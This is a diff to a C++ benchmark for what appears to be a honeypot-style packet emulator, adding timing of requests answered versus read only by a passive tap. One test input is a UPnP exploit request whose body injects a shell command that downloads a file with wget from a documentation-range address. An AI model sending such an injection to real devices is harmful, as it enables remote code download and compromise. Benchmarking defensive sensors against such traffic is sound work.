@@ -3,7 +3,8 @@
 // (the conversation table's entry made, the JSON-RPC call read and answered), a second request
 // on the same connection (keep-alive: a table lookup, a parse, an answer), the second request
 // again as a client sends it whose answer was lost (the answer made anew), and the close; and,
-// for comparison, the first payload without --emulate (acknowledged and closed, no state).
+// for comparison, the first payload without --emulate (acknowledged and closed, no state);
+// then a request as a tap reads it (--emulate without --respond), answered and read only.
 // Also the table's memory at the default sizes.
 //
 //   build/test/conversation_bench [--conversations N]   (default 2000: half the table's slots)
@@ -13,15 +14,18 @@
 
 #include <rte_cycles.h>
 
+#include <algorithm>
 #include <chrono>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
 #include <string>
 #include <thread>
+#include <utility>
 #include <vector>
 
 #include "../unit/frame_builder.hpp"
+#include "converse/emulator.hpp"
 #include "converse/responder.hpp"
 #include "packet/parser.hpp"
 
@@ -150,6 +154,49 @@ double cycles_per(std::vector<connection>& conns, Step step) {
   return static_cast<double>(rte_rdtsc() - start) / static_cast<double>(conns.size());
 }
 
+/** Cycles per request of emulate_request() over `request`, answered or read only (as a tap
+ *  or a capture reads requests with --emulate and no --respond); the best of five runs. */
+double request_cycles(const emulation_plan& plan, emulated_protocol protocol,
+                      const std::string& request, bool read_only) {
+  static uint8_t answer[max_answer_data];
+  emulation_context context{&plan, t0, 42, 0};
+  context.read_only = read_only;
+  double best = 1e18;
+  for (int run = 0; run < 5; ++run) {
+    constexpr int n = 20000;
+    const uint64_t start = rte_rdtsc();
+    for (int i = 0; i < n; ++i) {
+      const emulation_turn turn =
+          emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
+                          request.size(), answer);
+      if (turn.consumed != request.size()) {
+        std::abort();  // the request is not what the bench means to time
+      }
+    }
+    best = std::min(best, static_cast<double>(rte_rdtsc() - start) / n);
+  }
+  return best;
+}
+
+/** The requests a tap reads as they pass: answered (what the responder does) and read only. */
+void print_read_only_rows() {
+  emulation_plan plan;
+  plan_emulation("all", {}, plan);
+  const std::string upnp =
+      "POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
+      "`cd /var; wget http://192.0.2.66/m -O m`";
+  const std::pair<const char*, std::pair<emulated_protocol, std::string>> rows[] = {
+      {"eth_accounts", {emulated_protocol::ethereum, rpc("eth_accounts")}},
+      {"a UPnP exploit on the web server", {emulated_protocol::http, upnp}}};
+  std::printf("  %-58s %10s %10s\n", "request read as it passes (no --respond)", "answered",
+              "read only");
+  for (const auto& [name, what] : rows) {
+    std::printf("  %-58s %10.0f %10.0f\n", name,
+                request_cycles(plan, what.first, what.second, false),
+                request_cycles(plan, what.first, what.second, true));
+  }
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -227,6 +274,7 @@ int main(int argc, char** argv) {
   std::printf("  %-58s %10.0f\n", "second request on the connection (eth_blockNumber)", second);
   std::printf("  %-58s %10.0f\n", "second request again, its answer lost (made anew)", resent);
   std::printf("  %-58s %10.0f\n", "client's FIN (FIN-ACK, entry closing)", close);
+  print_read_only_rows();
   std::printf(
       "  requests answered in the last run: %llu of %u (%llu connections found their "
       "set full)\n",
